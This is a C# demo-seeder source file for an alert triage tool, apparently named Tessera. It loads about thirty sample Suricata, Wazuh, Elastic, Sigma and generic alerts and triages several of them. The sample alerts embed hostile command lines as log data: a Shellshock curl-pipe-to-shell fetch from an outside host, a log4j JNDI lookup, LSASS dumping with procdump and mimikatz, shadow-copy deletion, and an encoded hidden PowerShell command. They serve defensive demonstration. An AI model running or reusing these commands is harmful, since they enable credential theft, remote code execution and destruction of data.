using System.Security.Claims;
using Microsoft.Extensions.DependencyInjection;
using Tessera.Core.Alerts.Ingest;
using Tessera.Core.Alerts.Triage;
using Tessera.Core.Audit;
using Tessera.Core.Security;
using Tessera.Server.Alerts;
using Tessera.Server.Security;

namespace Tessera.Server.Demo;

/// <summary>
/// About thirty realistic alerts across the supported shapes (Suricata EVE, Wazuh, Elastic/ECS, Sigma matches,
/// generic), ingested and mapped like real traffic; a few are then triaged by the demo analyst so the library
/// and the provenance badges have something to show. Skipped when any alert is stored already.
/// </summary>
public sealed class AlertsDemoSeeder : IDemoSeeder
{
    private static readonly TimeSpan DemoBuildWait = TimeSpan.FromMinutes(5);

    public int Order => 400;

    public async Task SeedAsync(DemoContext context, CancellationToken ct)
    {
        var store = context.Services.GetRequiredService<IAlertRecordStore>();
        if ((await store.QueryAsync(new AlertRecordQuery { Take = 1 }, ct)).Total > 0)
        {
            return;
        }

        var mapping = context.Services.GetRequiredService<AlertMappingService>();
        await context.Console.WriteLineAsync("Demo alerts: waiting for the alert model (trained on first start, then loaded from the model folder)...");
        // The demo's first start trains the model; on a busy machine that can outlast a request's wait.
        var wait = mapping.BuildWait > DemoBuildWait ? mapping.BuildWait : DemoBuildWait;
        if (await mapping.GetMapperAsync(wait, ct) is null)
        {
            await context.Console.WriteLineAsync("Demo alerts skipped: " + mapping.Problem);
            return;
        }

        var lines = Alerts.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries);
        var inputs = new List<AlertInput>();
        for (var i = 0; i < lines.Length; i++)
        {
            if (AlertParser.Parse(lines[i], i + 1) is { Alert: { } alert } parsed)
            {
                inputs.Add(new AlertInput(i + 1, alert, lines[i], parsed.Notices));
            }
        }

        var triage = context.Services.GetRequiredService<AlertTriageService>();
        var demo = DemoAnalyst();
        // The last alerts repeat earlier ones and arrive after the triage below, so they show the library at work.
        var ingested = await triage.IngestAsync(inputs[..^RepeatsAfterTriage], [], demo, ct);
        var stored = ingested.Value?.Stored.Select(s => s.Alert).ToList() ?? [];
        // Decisions an analyst would make on the first day: the library then answers repeats of these alerts.
        foreach (var (title, action, techniques) in Decisions)
        {
            if (stored.FirstOrDefault(a => a.Title == title) is { } alert)
            {
                await triage.FeedbackAsync(alert.Id, new AlertFeedback(action, techniques, "demo triage"), demo, ct);
            }
        }

        var repeats = await triage.IngestAsync(inputs[^RepeatsAfterTriage..], [], demo, ct);
        stored.AddRange(repeats.Value?.Stored.Select(s => s.Alert) ?? []);
        await context.Console.WriteLineAsync($"Demo alerts: {stored.Count} ingested and mapped, {Decisions.Length} triaged (see Alerts).");
    }

    private const int RepeatsAfterTriage = 2;

    internal static ClaimsPrincipal DemoAnalyst() =>
        new(new ClaimsIdentity(
        [
            new Claim(ClaimTypes.Name, "analyst"),
            new Claim(ClaimTypes.Role, Role.Analyst.ToString()),
            new Claim(TesseraClaims.ActorKind, AuditActorKind.System.ToString()),
            new Claim(TesseraClaims.ActorId, DemoContext.Actor.Id),
        ], "demo"));

    private static readonly (string Title, FeedbackAction Action, string[] Techniques)[] Decisions =
    [
        ("ET EXPLOIT vBulletin 5.x Routestring widgetConfig Remote Code Execution", FeedbackAction.Confirm, ["T1190"]),
        ("sshd: brute force trying to get access to the system. Authentication failed.", FeedbackAction.Confirm, ["T1110.001"]),
        ("Outbound beaconing to rare domain update-check.example.net every 60s", FeedbackAction.Correct, ["T1071.001", "T1573"]),
        ("ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)", FeedbackAction.Confirm, ["T1595.002"]),
        ("Mass file rename with .locked extension on file server FS-02", FeedbackAction.Correct, ["T1486"]),
    ];

    private const string Alerts = """
        {"timestamp":"2025-10-27T08:12:44.123456+0000","flow_id":1187654321098765,"event_type":"alert","src_ip":"203.0.113.45","src_port":51234,"dest_ip":"192.0.2.10","dest_port":80,"proto":"TCP","app_proto":"http","alert":{"action":"allowed","gid":1,"signature_id":2029027,"rev":3,"signature":"ET EXPLOIT vBulletin 5.x Routestring widgetConfig Remote Code Execution","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"cve":["CVE_2019_16759"],"mitre_tactic_id":["TA0001"],"mitre_technique_id":["T1190"],"mitre_technique_name":["Exploit_Public_Facing_Application"]}},"http":{"hostname":"forum.example.org","url":"/ajax/render/widget_php?routestring=widget_php","http_method":"POST"}}
        {"timestamp":"2025-10-27T08:14:02.000000+0000","flow_id":1187654321098800,"event_type":"alert","src_ip":"198.51.100.23","dest_ip":"192.0.2.15","dest_port":443,"proto":"TCP","alert":{"signature_id":2034647,"signature":"ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1},"http":{"hostname":"shop.example.org","url":"/?x=${jndi:ldap://198.51.100.23:1389/a}"}}
        {"timestamp":"2025-10-27T08:20:11.000000+0000","flow_id":1187654321098811,"event_type":"alert","src_ip":"192.0.2.77","dest_ip":"10.0.3.4","dest_port":80,"proto":"TCP","alert":{"signature_id":2024364,"signature":"ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)","category":"Web Application Attack","severity":1}}
        {"timestamp":"2025-10-27T08:31:09.000000+0000","flow_id":1187654321098822,"event_type":"alert","src_ip":"10.0.8.15","dest_ip":"185.220.101.4","dest_port":443,"proto":"TCP","alert":{"signature_id":2031412,"signature":"ET MALWARE Cobalt Strike Beacon Observed","category":"A Network Trojan was detected","severity":1}}
        {"timestamp":"2025-10-27T08:33:40.000000+0000","flow_id":1187654321098833,"event_type":"alert","src_ip":"10.0.8.22","dest_ip":"10.0.0.53","dest_port":53,"proto":"UDP","alert":{"signature_id":2027863,"signature":"ET INFO Observed DNS Query to .onion proxy Domain","category":"Potentially Bad Traffic","severity":2}}
        {"timestamp":"2025-10-27T09:01:00.000000+0000","flow_id":1187654321098844,"event_type":"alert","src_ip":"203.0.113.90","dest_ip":"192.0.2.20","dest_port":443,"proto":"TCP","alert":{"signature_id":2030333,"signature":"ET EXPLOIT Citrix ADC and Gateway Directory Traversal (CVE-2019-19781)","category":"Attempted Administrator Privilege Gain","severity":1}}
        {"timestamp":"2025-10-27T09:04:12.000000+0000","flow_id":1187654321098855,"event_type":"alert","src_ip":"10.0.5.31","dest_ip":"10.0.5.2","dest_port":445,"proto":"TCP","alert":{"signature_id":2024218,"signature":"ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Response","category":"Attempted Administrator Privilege Gain","severity":1}}
        {"timestamp":"2025-10-27T11:02:17.512+0000","rule":{"level":10,"description":"sshd: brute force trying to get access to the system. Authentication failed.","id":"5763","mitre":{"id":["T1110"],"tactic":["Credential Access"],"technique":["Brute Force"]},"groups":["syslog","sshd","authentication_failures"]},"agent":{"id":"004","name":"web-01","ip":"10.0.4.21"},"id":"1761562937.1234567","full_log":"Oct 27 11:02:15 web-01 sshd[22345]: Failed password for invalid user admin from 198.51.100.77 port 40522 ssh2","data":{"srcip":"198.51.100.77","srcuser":"admin"}}
        {"timestamp":"2025-10-27T11:10:03.000+0000","rule":{"level":12,"description":"Windows audit log was cleared","id":"63103","mitre":{"id":["T1070.001"],"tactic":["Defense Evasion"],"technique":["Clear Windows Event Logs"]},"groups":["windows","windows_security"]},"agent":{"id":"011","name":"dc-01"},"id":"1761563403.2234"}
        {"timestamp":"2025-10-27T11:15:44.000+0000","rule":{"level":7,"description":"New user added to the system","id":"5902","mitre":{"id":["T1136"],"tactic":["Persistence"],"technique":["Create Account"]},"groups":["syslog","adduser"]},"agent":{"id":"004","name":"web-01"},"id":"1761563744.3344","full_log":"useradd[4112]: new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash"}
        {"timestamp":"2025-10-27T11:20:01.000+0000","rule":{"level":10,"description":"File added to the system: crontab modified by non-root user","id":"2832","groups":["syslog","cron"]},"agent":{"id":"007","name":"app-02"},"id":"1761564001.4455"}
        {"timestamp":"2025-10-27T11:25:31.000+0000","rule":{"level":12,"description":"Multiple Windows logon failures followed by a success for the same account","id":"60204","mitre":{"id":["T1110"],"tactic":["Credential Access"],"technique":["Brute Force"]},"groups":["windows","authentication_failures"]},"agent":{"id":"012","name":"ws-44"},"id":"1761564331.5566"}
        {"timestamp":"2025-10-27T11:40:00.000+0000","rule":{"level":8,"description":"Shellshock attack attempt","id":"31166","groups":["web","accesslog","attack"]},"agent":{"id":"004","name":"web-01"},"id":"1761565200.6677","full_log":"198.51.100.5 - - \"GET /cgi-bin/status HTTP/1.1\" 200 \"() { :; }; /bin/bash -c 'curl http://198.51.100.5/x.sh | sh'\""}
        {"@timestamp":"2025-10-27T12:30:01.000Z","kibana.alert.uuid":"5b0d3c0e-8f7a-4b3e-9a51-2f7d0e1c6a11","kibana.alert.rule.name":"Potential Credential Access via LSASS Memory Dump","kibana.alert.reason":"process event with process procdump64.exe, parent process cmd.exe, by admin on WS-22 created high alert","event":{"kind":"signal","category":["process"]},"host":{"name":"WS-22"},"process":{"name":"procdump64.exe","command_line":"procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp"},"threat":[{"framework":"MITRE ATT&CK","tactic":{"id":"TA0006","name":"Credential Access"},"technique":[{"id":"T1003","name":"OS Credential Dumping","subtechnique":[{"id":"T1003.001","name":"LSASS Memory"}]}]}]}
        {"@timestamp":"2025-10-27T12:35:12.000Z","kibana.alert.uuid":"7c2e4d1f-0b8a-4c3d-8e62-3a8e1f2d7b22","kibana.alert.rule.name":"Scheduled Task Created by a Windows Script","kibana.alert.reason":"schtasks.exe created task 'Updater' from wscript.exe on WS-31","event":{"kind":"signal","category":["process"]},"process":{"name":"schtasks.exe","command_line":"schtasks /create /tn Updater /tr C:\\Users\\Public\\u.vbs /sc minute /mo 30"},"threat":[{"framework":"MITRE ATT&CK","technique":[{"id":"T1053","name":"Scheduled Task/Job","subtechnique":[{"id":"T1053.005","name":"Scheduled Task"}]}]}]}
        {"@timestamp":"2025-10-27T12:40:44.000Z","kibana.alert.uuid":"8d3f5e20-1c9b-4d4e-9f73-4b9f2a3e8c33","kibana.alert.rule.name":"Suspicious Execution via Microsoft Office Macro","kibana.alert.reason":"WINWORD.EXE spawned powershell.exe on WS-18","event":{"kind":"signal"},"process":{"name":"powershell.exe","parent":{"name":"WINWORD.EXE"}}}
        {"@timestamp":"2025-10-27T12:45:10.000Z","rule":{"name":"Unusual Network Connection via RunDLL32"},"event":{"kind":"alert","category":["network"]},"process":{"name":"rundll32.exe"},"destination":{"ip":"185.220.101.9","port":8443},"threat":{"technique":{"id":"T1218.011","name":"Rundll32"}}}
        {"@timestamp":"2025-10-27T12:50:03.000Z","kibana.alert.uuid":"9e4a6f31-2d0c-4e5f-a084-5c0a3b4f9d44","kibana.alert.rule.name":"Ransomware Note File Creation","kibana.alert.reason":"file README_RESTORE.txt created in 412 folders on FS-02","event":{"kind":"signal","category":["file"]}}
        {"title":"Suspicious Encoded PowerShell Command Line","id":"ca2092a1-c273-4878-9b4b-0d60115bf5ea","description":"Detects suspicious powershell process starts with base64 encoded commands","tags":["attack.execution","attack.t1059.001"],"matches":[{"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA","Computer":"WS-07"}]}
        {"title":"Shadow Copies Deletion Using Operating Systems Utilities","id":"c947b146-0abc-4c87-9c64-b17e9d7274a2","tags":["attack.defense-evasion","attack.impact","attack.t1070","attack.t1490"],"matches":[{"CommandLine":"vssadmin.exe delete shadows /all /quiet","Computer":"FS-02"}]}
        {"title":"Mimikatz Command Line","id":"a642964e-bead-4bed-8910-1bb4d63e3b4d","tags":["attack.credential-access","attack.t1003.001","attack.t1003.002","attack.t1003.004"],"matches":[{"CommandLine":"mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit","Computer":"WS-22"}]}
        {"title":"Remote Thread Creation In Uncommon Target Image","id":"a1a144b7-5c9b-4853-a559-2172be8d4a03","tags":["attack.defense-evasion","attack.privilege-escalation","attack.t1055.003"]}
        {"id":"gen-42","title":"Outbound beaconing to rare domain update-check.example.net every 60s","description":"Host 10.0.8.15 contacted update-check.example.net 240 times with fixed interval","source":"netflow-analytics","fields":{"host":"10.0.8.15","domain":"update-check.example.net","interval_s":60}}
        {"id":"gen-43","title":"Mass file rename with .locked extension on file server FS-02","description":"3,411 files renamed in 90 seconds by user svc-backup","source":"fim"}
        {"id":"gen-44","title":"Large upload to cloud storage (mega.nz) from finance workstation","description":"2.4 GB sent over HTTPS in 12 minutes","source":"proxy"}
        {"id":"gen-45","title":"Phishing email with macro-enabled attachment delivered to 14 mailboxes","description":"Attachment invoice_0231.docm, sender spoofing a supplier domain","source":"mail-gateway"}
        {"id":"gen-46","title":"New service installed with binary in user temp folder","description":"Service 'WinUpdSvc' path C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe","source":"edr"}
        {"id":"gen-47","title":"Kerberoasting: many TGS requests with RC4 encryption from one account","source":"ad-monitor"}
        {"id":"gen-48","title":"<script>alert('x')</script> SQL Injection attempt on <b>/login.php</b>","description":"WAF blocked a UNION SELECT payload","source":"waf"}
        {"id":"gen-49","title":"Outbound beaconing to rare domain cdn-sync.example.com every 30s","description":"Host 10.0.8.31 contacted cdn-sync.example.com 600 times with fixed interval","source":"netflow-analytics"}
        {"id":"gen-50","title":"AWS CloudTrail logging stopped on trail org-trail","description":"StopLogging called by IAM user ci-deployer from 198.51.100.23","source":"cloudtrail"}
        {"id":"gen-51","title":"Crontab modified to run a script from /dev/shm - Linux","source":"auditd"}
        {"timestamp":"2025-10-27T13:10:00.000000+0000","flow_id":1187654321098999,"event_type":"alert","src_ip":"203.0.113.46","dest_ip":"192.0.2.10","dest_port":80,"proto":"TCP","alert":{"signature_id":2029027,"signature":"ET EXPLOIT vBulletin 5.x Routestring widgetConfig Remote Code Execution","category":"Attempted Administrator Privilege Gain","severity":1}}
        """;
}
